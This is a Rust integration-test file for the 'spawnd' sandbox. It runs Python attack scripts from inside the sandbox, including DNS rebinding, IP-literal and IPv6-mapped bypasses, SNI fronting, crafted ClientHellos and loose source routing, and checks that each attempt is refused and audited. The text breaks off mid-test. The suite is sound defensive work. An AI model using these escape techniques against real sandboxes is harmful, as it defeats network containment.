//! The network escape suite: hostile programs with network grants, each
//! attack made from inside spawnd's sandbox with a real client (python3,
//! curl) and judged from OUTSIDE, in a world network namespace the test
//! controls (`world.rs`): what the world's servers accepted and received,
//! what its DNS server was asked, which processes and connections are left,
//! and the refusal spawnd recorded in the result's `network` object and in
//! the audit trail. Every attack has a positive control in the same test,
//! showing the judge would have seen it: the same client reaching a granted
//! destination (the server counts it), the world's DNS logging spawnd's own
//! questions, the same attack code run outside the sandbox succeeding.
//!
//! spawnd runs inside the world as root (the program as 65534), and as
//! `nobody` for a battery of the attacks and for killing it. The names of
//! the world resolve to 203.0.113.10, on the world's internet, whose range
//! the operator allows.
//!
//! | attack | judged by | positive control |
//! |---|---|---|
//! | an undeclared name | NXDOMAIN inside; its server accepts nothing; the world's DNS never hears it; `dns_refused` and a `dns` audit record name it | the granted name fetched, its server counts it |
//! | a granted name on another port | no listener (ECONNREFUSED), or a reset on another grant's port; those servers accept nothing; `not_granted` recorded | the granted ports served |
//! | the IP literal of a granted name (v4, v4-mapped, NAT64) | reset by spawnd, `not_granted` recorded; the server's count stays at the control's | the name reaches that very server |
//! | an address of the fake pool no name holds | reset, `not_granted` | the name's fake address works |
//! | IPv4 source routing through the loopback, UDP-Lite | refused at once, recorded under the header's destination or as `other` with its protocol | the granted name served |
//! | UDP (QUIC) to a granted name or its address | the send fails (EPERM), a `udp` record; the world's UDP server receives nothing | the same name over TCP |
//! | rebinding: a granted name answering 127.0.0.1, 169.254.169.254, 10.0.0.5 | reset, `resolved_to_denied_address` with the range; the server there accepts nothing | the name served while it answered the public address; the server there reached from the world; 10.0.0.5 reached once the operator allows 10.0.0.0/8 |
//! | rebinding through IPv6 forms (`::ffff:127.0.0.1`, `64:ff9b::a9fe:a9fe`) | as above, judged as the IPv4 address | as above |
//! | a granted name answering loopback and metadata beside a public address | only the public address dialed; the others' servers accept nothing | the public one serves every connection; the others reached from the world |
//! | rebinding mid-run (public, then 127.0.0.1, within one spawn) | the second connection refused; loopback's server accepts nothing | the first connection served; spawnd asked the world again |
//! | DNS to an outside resolver (UDP and TCP, v4 and v6) | refused at once and recorded (`udp` records, a `not_granted` one for TCP); the world's resolver at 203.0.113.53 never logs the name | the same query from the world is logged |
//! | DNS exfiltration through the stub (100 names, A/AAAA/TXT, UDP/TCP, under a granted name) | the world's DNS log holds only the granted name; the names in `dns_refused` and the audit trail, capped | spawnd's own question for the granted name is logged |
//! | TXT, ANY, AXFR, HTTPS, MX for a granted name | no answer records; the world is asked nothing but A/AAAA | A answers a fake address, which connects |
//! | raw sockets (UDP, ICMP, IPv6, ping) | refused; the world's UDP server receives nothing | the same code as root in the world delivers a datagram |
//! | packet sockets | refused; the world's UDP server receives nothing | the same code as root on the internet (where the address is) injects a frame that arrives |
//! | netlink and ioctl adding a route or an address | refused; 203.0.113.10 is still reset by spawnd, `not_granted` | the same code in a fresh namespace as root adds both |
//! | IPv6 to the world's address and to others | ECONNREFUSED from the sandbox's rules, or a reset on a granted port, each recorded; the server accepts nothing | a literal grant of that address reaches its server |
//! | SNI mismatch (domain fronting), also fragmented across TLS records, sent byte by byte, behind record version `00 01` or a `00 01` warning alert (both accepted by Go's server) | reset, `sni_mismatch` / `malformed_client_hello` with what was wrong; the server receives none of the ClientHello | the same ClientHello naming the granted name arrives whole |
//! | a ClientHello without SNI, or malformed, or after an alert record | reset, `sni_missing` / `malformed_client_hello`; the server receives nothing | as above |
//! | an encrypted ClientHello (ECH, draft ESNI) whose outer name is the granted one | reset, `malformed_client_hello`; the server receives nothing | the same hello with an unknown extension instead arrives whole |
//! | the host's loopback services (127.0.0.1, ::1, 127.0.0.2, 0.0.0.0) | reset or refused; the world's loopback servers accept nothing | a literal grant of 127.0.0.1:P reaches its server |
//! | a granted name resolving to an address of the host (203.0.113.7 on the world's own interface, in the range the operator allows; also as `::ffff:203.0.113.7`) | reset, `resolved_to_denied_address` with `host_address`; the host's service on `0.0.0.0` accepts nothing | the same run reaches the internet's server by name; a literal grant of 203.0.113.7:P reaches the host's service |
//! | taking over spawnd's listeners (bind the granted port, the DNS port; inherited fds) | EADDRINUSE/EACCES, no listener fd; the next connection is still spawnd's | binding another port works |
//! | proxy variables naming an ungranted proxy | curl and urllib fail; the proxy's server accepts nothing | curl without the proxy is served |
//! | one caller's spawns holding every relayed connection they may (root, through the daemon) | past what leaves a present caller's share, reset (`too_many_connections`, the record naming `[network] connections_share`) | the second caller (nobody) fetches through the same daemon |
//! | 10,000 connections | at most 64 reach the server at once; `too_many_connections` counted; the spawn ends; another spawn's fetches stay fast | the server saw the flood; the other spawn was served |
//! | slow peers holding relays (one that never reads, one that drips a byte a second) | other connections of the spawn served; the wall time ends it on time; both peers see their connection closed | both peers were reached |
//! | a double-forked daemon holding a relayed connection after the program exits | the spawn ends at once; the server sees the close; no process left | the daemon's connection reached the server |
//! | refusals to 300 destinations, twice each | 64 kinds recorded, the rest counted (`refusals_unreported`) | the granted name still served |
//! | killing spawnd mid-connection (as root, as nobody, through the spawner) | within seconds the server sees the close, no sandbox process is left, the world listens on nothing new | before the kill, the connection and the processes were there |
//!
//! Needs root (the world is a network namespace): without it a test fails,
//! unless SPAWND_TEST_SKIP_PRIVILEGED asks to skip.

use crate::world;

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::rr::RecordType;
use serde_json::Value;
use world::{run_checked, Run, World, PYTHON, WORLD_CIDR, WORLD_IP};

/// The wall time of every operation unless a test sets its own: far above
/// what any attack takes, so a hang shows as a failed assertion.
const WALL_TIME_MS: u64 = 240_000;

/// How long an effect seen from outside (a close, a process gone) may
/// take to show.
const SETTLE: Duration = Duration::from_secs(10);

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

fn at(text: &str, port: u16) -> SocketAddr {
    SocketAddr::new(ip(text), port)
}

/// What every attack script starts with: `attempt(label, fn)` records
/// what `fn` returned ("ok" for None), or the errno's name it failed
/// with, in RESULTS, and `finish()` prints RESULTS as one JSON line.
/// Helpers: resolve a name through the sandbox's resolver, an HTTP/1.0
/// exchange ("reply:<body>", "empty", or the error), DNS queries by hand
/// over UDP and TCP ("rcode=N answers=M"), and a TLS ClientHello made by
/// python's ssl without a server.
const PRELUDE: &str = r#"
import errno, fcntl, json, os, socket, ssl, struct, sys, threading, time

RESULTS = {}
OUT = "@OUT@"

def outcome(fn):
    try:
        value = fn()
        return "ok" if value is None else value
    except socket.gaierror:
        return "gaierror"
    except OSError as e:
        if e.errno:
            return errno.errorcode.get(e.errno, str(e.errno))
        return type(e).__name__
    except Exception as e:
        return type(e).__name__ + ": " + str(e)

def attempt(label, fn):
    RESULTS[label] = outcome(fn)

def finish():
    print(json.dumps(RESULTS, sort_keys=True), flush=True)

def resolve(name):
    return socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]

def family_of(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET

def exchange(addr, port, payload=b"GET / HTTP/1.0\r\n\r\n", timeout=30):
    s = socket.socket(family_of(addr), socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((addr, port))
        s.sendall(payload)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    finally:
        s.close()
    if not data:
        return "empty"
    return "reply:" + data.split(b"\r\n\r\n", 1)[-1].decode(errors="replace")

def get(host, port):
    return exchange(resolve(host), port)

def dns_query(name, qtype):
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)

def dns_summary(reply):
    flags, _, answers = struct.unpack(">HHH", reply[2:8])
    return "rcode=%d answers=%d" % (flags & 0xF, answers)

def dns_udp(server, name, qtype, timeout=10):
    s = socket.socket(family_of(server), socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(dns_query(name, qtype), (server, 53))
        return dns_summary(s.recv(4096))
    finally:
        s.close()

def recv_exact(s, n):
    data = b""
    while len(data) < n:
        chunk = s.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data

def dns_tcp(server, name, qtype, timeout=10):
    s = socket.socket(family_of(server), socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((server, 53))
        q = dns_query(name, qtype)
        s.sendall(struct.pack(">H", len(q)) + q)
        length = struct.unpack(">H", recv_exact(s, 2))[0]
        return dns_summary(recv_exact(s, length))
    finally:
        s.close()

def client_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def in_two_records(hello, at):
    body = hello[5:]
    record = lambda part: hello[:3] + struct.pack(">H", len(part)) + part
    return record(body[:at]) + record(body[at:])

def with_extension(hello, kind, data):
    body = hello[9:]
    at = 2 + 32
    at += 1 + body[at]
    at += 2 + int.from_bytes(body[at:at + 2], "big")
    at += 1 + body[at]
    length = int.from_bytes(body[at:at + 2], "big")
    extension = struct.pack(">HH", kind, len(data)) + data
    body = body[:at] + struct.pack(">H", length + len(extension)) + body[at + 2:] + extension
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return hello[:3] + struct.pack(">H", len(message)) + message

def first_flight(addr, port, chunks, pause=0.0):
    s = socket.create_connection((addr, port), timeout=30)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for chunk in chunks:
            s.sendall(chunk)
            time.sleep(pause)
        s.shutdown(socket.SHUT_WR)
        return "closed" if not s.recv(100) else "answered"
    finally:
        s.close()
"#;

/// The world every test starts from: `api.test` at [`WORLD_IP`], and the
/// directories the manifests scope (scripts to read, `out` to write).
struct Setup {
    world: World,
    config: PathBuf,
}

impl Setup {
    /// A world with the operator config `spawnd.toml` (the world's range
    /// allowed, plus `allow`); `None` when skipping without root.
    fn new(allow: &[&str]) -> Option<Setup> {
        let world = World::new()?;
        world.map("api.test", &[ip(WORLD_IP)]);
        std::fs::create_dir_all(world.path("scripts")).unwrap();
        world.writable_dir("out");
        let config = operator_config(&world, "spawnd", allow);
        Some(Setup { world, config })
    }

    /// Writes an attack script (the prelude, then `body`) and returns the
    /// `script=` argument naming it.
    fn script(&self, name: &str, body: &str) -> String {
        let path = self.script_path(name);
        let out = self.world.path("out");
        let text = format!("{PRELUDE}\n{body}").replace("@OUT@", out.to_str().unwrap());
        std::fs::write(&path, text).unwrap();
        format!("script={}", path.display())
    }

    fn script_path(&self, name: &str) -> PathBuf {
        // Prefixed so that no script shadows a module of python's own
        // (the script's directory comes first in its import path).
        self.world.path(&format!("scripts/attack_{name}.py"))
    }

    /// A manifest granting `network`, with operation `py` (`python3
    /// {script}`) and `ops` (more operation tables); `env` is extra
    /// `[capabilities.spawn]` lines.
    fn manifest(&self, file: &str, network: &[&str], env: &str, ops: &str) -> PathBuf {
        let path = self.world.path(file);
        let grants: Vec<String> = network.iter().map(|g| format!("\"{g}\"")).collect();
        std::fs::write(
            &path,
            format!(
                "[connector]\nname = \"local://test/escape\"\nversion = \"1.0.0\"\n\n\
                 [capabilities.spawn]\n\
                 programs = [{{ path = \"{PYTHON}\" }}, {{ path = \"/usr/bin/curl\" }}]\n\
                 fs_read = [\"{scripts}\"]\n\
                 fs_write = [\"{out}\"]\n\
                 network = [{grants}]\n{env}\n\n\
                 [capabilities.spawn.limits]\nwall_time_ms = {WALL_TIME_MS}\n\n\
                 [capabilities.spawn.operations.py]\nargv = \"python3 {{script}}\"\n\n{ops}",
                scripts = self.world.path("scripts").display(),
                out = self.world.path("out").display(),
                grants = grants.join(", "),
            ),
        )
        .unwrap();
        path
    }

    /// `spawnd run --json` of `op` as root inside the world.
    fn run(&self, manifest: &Path, op: &str, args: &[String]) -> Run {
        Run::of(&mut run_command(
            self.world.spawnd(&self.config),
            manifest,
            op,
            args,
        ))
    }

    /// Runs the script `name` (`body` after the prelude) as operation
    /// `py` and returns the run and the script's results.
    fn attack(&self, manifest: &Path, name: &str, body: &str) -> (Run, Value) {
        let arg = self.script(name, body);
        let run = self.run(manifest, "py", &[arg]);
        let results = results(&run);
        eprintln!("{name}: {results}");
        (run, results)
    }

    /// The `net` records of the audit trail so far.
    fn net_records(&self) -> Vec<Value> {
        net_records(&self.world.path("spawnd.audit.jsonl"))
    }

    /// Runs the script `name` outside any sandbox, as root in the world:
    /// the attack's control.
    fn outside(&self, name: &str) -> Value {
        self.outside_in(self.world.name(), name)
    }

    /// Runs the script `name` as root in the network namespace `ns`.
    fn outside_in(&self, ns: &str, name: &str) -> Value {
        let out = run_checked(
            Command::new("ip")
                .args(["netns", "exec", ns, PYTHON])
                .arg(self.script_path(name)),
        );
        last_json_line(&String::from_utf8_lossy(&out.stdout))
    }
}

/// An operator config `<name>.toml` in the world's directory: the world's
/// range and `allow` in `allow_cidrs`.
fn operator_config(world: &World, name: &str, allow: &[&str]) -> PathBuf {
    let cidrs: Vec<String> = std::iter::once(WORLD_CIDR)
        .chain(allow.iter().copied())
        .map(|c| format!("\"{c}\""))
        .collect();
    world.operator_config(
        name,
        &format!("[network]\nallow_cidrs = [{}]\n", cidrs.join(", ")),
    )
}

fn run_command(mut command: Command, manifest: &Path, op: &str, args: &[String]) -> Command {
    command.args(["run", "--json", "--manifest"]).arg(manifest);
    command.args(["--op", op]);
    for arg in args {
        command.args(["--arg", arg]);
    }
    command
}

/// The JSON line a script printed last.
fn results(run: &Run) -> Value {
    assert!(
        run.stdout().trim().ends_with('}'),
        "no results from the script: {}",
        run.json
    );
    last_json_line(run.stdout())
}

fn last_json_line(text: &str) -> Value {
    let line = text.lines().rev().find(|l| !l.trim().is_empty()).unwrap();
    serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {text}"))
}

fn net_records(audit: &Path) -> Vec<Value> {
    std::fs::read_to_string(audit)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|r| r["kind"] == "net")
        .collect()
}

/// The audit trail's `tcp` record refusing `host:port` for `reason`.
fn refusal_record<'a>(records: &'a [Value], host: &str, port: u16, reason: &str) -> &'a Value {
    records
        .iter()
        .find(|r| {
            r["protocol"] == "tcp"
                && r["host"] == host
                && r["port"] == port
                && r["allowed"] == false
                && r["reason"] == reason
        })
        .unwrap_or_else(|| panic!("no {reason} record for {host}:{port}: {records:#?}"))
}

/// The audit trail's `udp` record of a datagram to `host:port` the
/// sandbox's rules refused.
fn datagram_refusal<'a>(records: &'a [Value], host: &str, port: u16) -> &'a Value {
    records
        .iter()
        .find(|r| {
            r["protocol"] == "udp"
                && r["host"] == host
                && r["port"] == port
                && r["allowed"] == false
                && r["reason"] == "not_granted"
        })
        .unwrap_or_else(|| panic!("no udp record for {host}:{port}: {records:#?}"))
}

/// The result's count of refusals of `host:port` for `reason` (0 when
/// none).
fn refusals(run: &Run, host: &str, port: u16, reason: &str) -> u64 {
    run.network()["refusals"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|r| r["host"] == host && r["port"] == port && r["reason"] == reason)
        .map(|r| r["count"].as_u64().unwrap())
        .unwrap_or(0)
}

/// How many connections to `host:port` the result lists as refused for
/// `reason` after spawnd dialed them (each such connection is listed and
/// recorded on its own: a refusal by the first flight, say).
fn refused_after_dial(run: &Run, host: &str, port: u16, reason: &str) -> usize {
    run.connections()
        .into_iter()
        .filter(|c| {
            c["host"] == host && c["port"] == port && c["allowed"] == false && c["reason"] == reason
        })
        .count()
}

/// The result's listed connection to `host:port`.
fn listed<'a>(run: &'a Run, host: &str, port: u16) -> &'a Value {
    run.connections()
        .into_iter()
        .find(|c| c["host"] == host && c["port"] == port)
        .unwrap_or_else(|| panic!("no connection to {host}:{port} listed: {}", run.json))
}

fn result<'a>(results: &'a Value, label: &str) -> &'a str {
    results[label]
        .as_str()
        .unwrap_or_else(|| panic!("no result {label}: {results}"))
}

/// Asserts that the attack `label` did not get an HTTP reply.
fn assert_not_served(results: &Value, label: &str) {
    let got = result(results, label);
    assert!(!got.starts_with("reply:"), "{label} was served: {results}");
}

/// The world DNS server's question log, as names.
fn asked(world: &World) -> BTreeSet<String> {
    world.dns_queries().into_iter().map(|q| q.name).collect()
}

/// What a watched server of the world saw.
#[derive(Default)]
struct Seen {
    accepted: AtomicUsize,
    open: AtomicUsize,
    max_open: AtomicUsize,
    closed: AtomicUsize,
    /// Bytes received on each connection that has ended, in order.
    bytes: Mutex<Vec<usize>>,
    /// Set by the test: a tarpit starts reading.
    release: AtomicBool,
}

impl Seen {
    fn accepted(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }
    fn open(&self) -> usize {
        self.open.load(Ordering::SeqCst)
    }
    fn max_open(&self) -> usize {
        self.max_open.load(Ordering::SeqCst)
    }
    fn closed(&self) -> usize {
        self.closed.load(Ordering::SeqCst)
    }
    fn bytes(&self) -> Vec<usize> {
        self.bytes.lock().unwrap().clone()
    }
}

/// How a watched server treats a connection.
#[derive(Clone, Copy)]
enum Peer {
    /// Reads one request and answers HTTP 200 with this body.
    Http(&'static str),
    /// Reads until the client closes, answering nothing.
    Hold,
    /// Reads nothing until the test releases it, then reads to the end.
    Tarpit,
    /// Writes one byte a second until the write fails; reads nothing.
    Drip,
}

/// A server of `peer`'s kind on `addr` in the world, watched.
fn serve(world: &World, addr: SocketAddr, peer: Peer) -> Arc<Seen> {
    let seen = Arc::new(Seen::default());
    let shared = seen.clone();
    world.tcp_server(addr, move |stream| handle(stream, peer, &shared));
    seen
}

fn handle(mut stream: TcpStream, peer: Peer, seen: &Seen) {
    seen.accepted.fetch_add(1, Ordering::SeqCst);
    let open = seen.open.fetch_add(1, Ordering::SeqCst) + 1;
    seen.max_open.fetch_max(open, Ordering::SeqCst);
    let mut received = 0;
    let mut buffer = [0u8; 65536];
    match peer {
        Peer::Http(body) => {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(30)));
            if let Ok(n) = crate::harness::uninterrupted(|| stream.read(&mut buffer)) {
                received = n;
            }
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
        Peer::Hold | Peer::Tarpit => {
            if matches!(peer, Peer::Tarpit) {
                while !seen.release.load(Ordering::SeqCst) {
                    std::thread::sleep(Duration::from_millis(50));
                }
            }
            // Long enough for any test; a connection still open after it
            // is not counted as closed.
            let _ = stream.set_read_timeout(Some(Duration::from_secs(150)));
            loop {
                match crate::harness::uninterrupted(|| stream.read(&mut buffer)) {
                    Ok(0) => break,
                    Ok(n) => received += n,
                    Err(e)
                        if matches!(
                            e.kind(),
                            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                        ) =>
                    {
                        return;
                    }
                    Err(_) => break,
                }
            }
        }
        Peer::Drip => {
            let started = Instant::now();
            while started.elapsed() < Duration::from_secs(150) {
                if stream.write_all(b".").is_err() {
                    break;
                }
                std::thread::sleep(Duration::from_secs(1));
            }
        }
    }
    // No longer counted as open before the close is sent: the relay frees
    // the connection's slot only after it sees the close, so a new
    // connection of the spawn is never counted beside this one.
    seen.open.fetch_sub(1, Ordering::SeqCst);
    let _ = stream.shutdown(Shutdown::Both);
    seen.bytes.lock().unwrap().push(received);
    seen.closed.fetch_add(1, Ordering::SeqCst);
}

/// Waits up to [`SETTLE`] for `condition`.
fn eventually(mut condition: impl FnMut() -> bool) -> bool {
    let started = Instant::now();
    while started.elapsed() < SETTLE {
        if condition() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    condition()
}

/// Connects to `addr` from inside the world (the test as a client there),
/// showing the server there is up and counted.
fn reach_from_the_world(world: &World, addr: SocketAddr) {
    let mut stream = world.in_world(|| TcpStream::connect(addr).unwrap());
    let _ = stream.write_all(b"GET / HTTP/1.0\r\n\r\n");
    let _ = stream.shutdown(Shutdown::Write);
    let mut rest = Vec::new();
    let _ = stream.read_to_end(&mut rest);
}

// ---- names and ports ------------------------------------------------------

#[test]
fn an_undeclared_name_gets_nxdomain_and_neither_its_server_nor_the_world_dns_hears_of_it() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    s.world.add_address(ip("203.0.113.66"));
    s.world.map("evil.test", &[ip("203.0.113.66")]);
    let evil = serve(&s.world, at("203.0.113.66", 8080), Peer::Http("evil"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "undeclared",
        r#"
attempt("granted", lambda: get("api.test", 8080))
attempt("resolve", lambda: resolve("evil.test"))
attempt("aaaa", lambda: socket.getaddrinfo("evil.test", 8080, socket.AF_INET6))
attempt("connect", lambda: get("evil.test", 8080))
finish()
"#,
    );
    assert_eq!(run.code(), Some(0), "{}", run.json);
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    for label in ["resolve", "aaaa", "connect"] {
        assert_eq!(result(&r, label), "gaierror", "{r}");
    }
    assert_eq!(evil.accepted(), 0);
    // The world's DNS was asked for the granted name (by spawnd, to dial
    // it) and for nothing else.
    assert_eq!(asked(&s.world), BTreeSet::from(["api.test".to_string()]));
    let dns_refused = &run.network()["dns_refused"];
    assert!(
        dns_refused
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["name"] == "evil.test" && d["type"] == "A"),
        "{dns_refused}"
    );
    let records = s.net_records();
    assert!(
        records.iter().any(|r| r["protocol"] == "dns"
            && r["query"] == "evil.test"
            && r["allowed"] == false
            && r["reason"] == "not_granted"),
        "{records:#?}"
    );
}

#[test]
fn a_granted_name_on_a_port_it_is_not_granted_reaches_nothing_even_on_another_grants_port() {
    let Some(s) = Setup::new(&[]) else { return };
    s.world.add_address(ip("203.0.113.77"));
    s.world.map("other.test", &[ip("203.0.113.77")]);
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let api_8081 = serve(&s.world, at(WORLD_IP, 8081), Peer::Http("8081"));
    let api_9090 = serve(&s.world, at(WORLD_IP, 9090), Peer::Http("9090"));
    let other = serve(&s.world, at("203.0.113.77", 9090), Peer::Http("other"));
    let m = s.manifest("m.toml", &["api.test:8080", "other.test:9090"], "", "");
    let (run, r) = s.attack(
        &m,
        "ports",
        r#"
attempt("api_8080", lambda: get("api.test", 8080))
attempt("other_9090", lambda: get("other.test", 9090))
attempt("api_8081", lambda: get("api.test", 8081))
attempt("api_9090", lambda: get("api.test", 9090))
attempt("other_8080", lambda: get("other.test", 8080))
finish()
"#,
    );
    assert_eq!(result(&r, "api_8080"), "reply:api", "{r}");
    assert_eq!(result(&r, "other_9090"), "reply:other", "{r}");
    assert_eq!((api.accepted(), other.accepted()), (1, 1));
    // No listener for 8081 in the sandbox: the kernel refuses it.
    assert_eq!(result(&r, "api_8081"), "ECONNREFUSED", "{r}");
    // 9090 and 8080 have listeners (the other grant's): spawnd resets.
    assert_not_served(&r, "api_9090");
    assert_not_served(&r, "other_8080");
    assert_eq!((api_8081.accepted(), api_9090.accepted()), (0, 0));
    assert_eq!(api.accepted(), 1, "other.test:8080 reached api's server");
    assert_eq!(refusals(&run, "api.test", 9090, "not_granted"), 1);
    assert_eq!(refusals(&run, "other.test", 8080, "not_granted"), 1);
    let records = s.net_records();
    refusal_record(&records, "api.test", 9090, "not_granted");
    refusal_record(&records, "other.test", 8080, "not_granted");
}

#[test]
fn the_ip_literal_of_a_granted_names_address_is_refused_and_recorded_in_any_form() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "literal",
        r#"
attempt("name", lambda: get("api.test", 8080))
attempt("v4", lambda: exchange("203.0.113.10", 8080))
attempt("v4_mapped", lambda: exchange("::ffff:203.0.113.10", 8080))
attempt("nat64", lambda: exchange("64:ff9b::cb00:710a", 8080))
attempt("v4_compatible", lambda: exchange("::203.0.113.10", 8080))
attempt("six_to_four", lambda: exchange("2002:cb00:710a::1", 8080))
finish()
"#,
    );
    assert_eq!(run.code(), Some(0), "{}", run.json);
    assert_eq!(result(&r, "name"), "reply:api", "{r}");
    // On the granted port each reaches spawnd's listener, which resets it
    // before anything moves, and records it.
    for label in ["v4", "v4_mapped", "nat64", "v4_compatible", "six_to_four"] {
        assert_eq!(result(&r, label), "ECONNRESET", "{label}: {r}");
    }
    // Only the name's connection reached the server.
    assert_eq!(api.accepted(), 1);
    assert_eq!(run.network()["refused"], 5, "{}", run.json);
    assert_eq!(refusals(&run, "203.0.113.10", 8080, "not_granted"), 2);
    let records = s.net_records();
    for host in [
        "203.0.113.10",
        "[64:ff9b::cb00:710a]",
        "[::cb00:710a]",
        "[2002:cb00:710a::1]",
    ] {
        refusal_record(&records, host, 8080, "not_granted");
    }
}

#[test]
fn an_address_of_the_fake_pool_that_no_granted_name_holds_is_reset() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (_run, r) = s.attack(
        &m,
        "pool",
        r#"
fake = resolve("api.test")
attempt("fake", lambda: exchange(fake, 8080))
attempt("unheld", lambda: exchange("198.18.0.250", 8080))
attempt("pool_end", lambda: exchange("198.19.255.254", 8080))
finish()
"#,
    );
    assert_eq!(result(&r, "fake"), "reply:api", "{r}");
    assert_not_served(&r, "unheld");
    assert_not_served(&r, "pool_end");
    assert_eq!(api.accepted(), 1);
    let records = s.net_records();
    refusal_record(&records, "198.18.0.250", 8080, "not_granted");
    refusal_record(&records, "198.19.255.254", 8080, "not_granted");
}

#[test]
fn udp_to_a_granted_name_is_refused_and_recorded_while_tcp_to_it_is_served() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8443), Peer::Http("api"));
    let quic = s.world.udp_server(at(WORLD_IP, 8443));
    let m = s.manifest("m.toml", &["api.test:8443"], "", "");
    let (_run, r) = s.attack(
        &m,
        "udp",
        r#"
def udp(addr):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    try:
        u.connect((addr, 8443))
        u.send(b"\xc0quic initial")
        return u.recv(100)
    finally:
        u.close()
attempt("tcp", lambda: get("api.test", 8443))
attempt("udp_name", lambda: udp(resolve("api.test")))
attempt("udp_literal", lambda: udp("203.0.113.10"))
finish()
"#,
    );
    assert_eq!(result(&r, "tcp"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    // Refused at once by the sandbox's rules (the send fails), and
    // recorded: the fake address under its name.
    assert_eq!(result(&r, "udp_name"), "EPERM", "{r}");
    assert_eq!(result(&r, "udp_literal"), "EPERM", "{r}");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(quic.received(), 0);
    let records = s.net_records();
    datagram_refusal(&records, "api.test", 8443);
    datagram_refusal(&records, "203.0.113.10", 8443);
}

/// Headers that carry the destination past the one the sandbox's rules
/// read (IPv4 loose source routing through the loopback to the world's
/// server), and a transport other than TCP and UDP (UDP-Lite): each is
/// refused at once and recorded; the world's server accepts nothing.
#[test]
fn source_routes_and_other_transports_are_refused_and_recorded() {
    let Some(s) = Setup::new(&[]) else { return };
    let api = serve(&s.world, at(WORLD_IP, 8080), Peer::Http("api"));
    let ssh = serve(&s.world, at(WORLD_IP, 22), Peer::Hold);
    let m = s.manifest("m.toml", &["api.test:8080"], "", "");
    let (run, r) = s.attack(
        &m,
        "routed",
        r#"
def source_routed():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        # LSRR through 127.0.0.1: the header names the loopback, the
        # option carries 203.0.113.10 on.
        try:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([0x83, 7, 4, 127, 0, 0, 1, 0]))
        except OSError as e:
            return "setsockopt " + errno.errorcode.get(e.errno, str(e.errno))
        s.connect(("203.0.113.10", 22))
        return "connected"
    finally:
        s.close()
def udp_lite():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    try:
        u.sendto(b"lite", ("203.0.113.10", 53))
        return "sent"
    finally:
        u.close()
attempt("granted", lambda: get("api.test", 8080))
attempt("source_routed", source_routed)
attempt("udp_lite", udp_lite)
finish()
"#,
    );
    assert_eq!(result(&r, "granted"), "reply:api", "{r}");
    assert_eq!(api.accepted(), 1);
    assert_eq!(ssh.accepted(), 0);
    let records = s.net_records();
    // Kernels that let an unprivileged socket set a source route see its
    // SYN refused at once (its send fails: not a timeout), recorded under
    // the header's destination; others refuse the option itself.
    if result(&r, "source_routed") != "setsockopt EPERM" {
        assert_eq!(result(&r, "source_routed"), "EPERM", "{r}");
        refusal_record(&records, "127.0.0.1", 22, "not_granted");
    }
    // A kernel without UDP-Lite cannot be asked for it.
    if result(&r, "udp_lite") != "EPROTONOSUPPORT" {
        assert_eq!(result(&r, "udp_lite"), "EPERM", "{r}");
        let lite = records
            .iter()
            .find(|r| r["protocol"] == "other" && r["ip_protocol"] == 136)
            .unwrap_or_else(|| panic!("no record of the UDP-Lite datagram: {records:#?}"));
        assert_eq!(
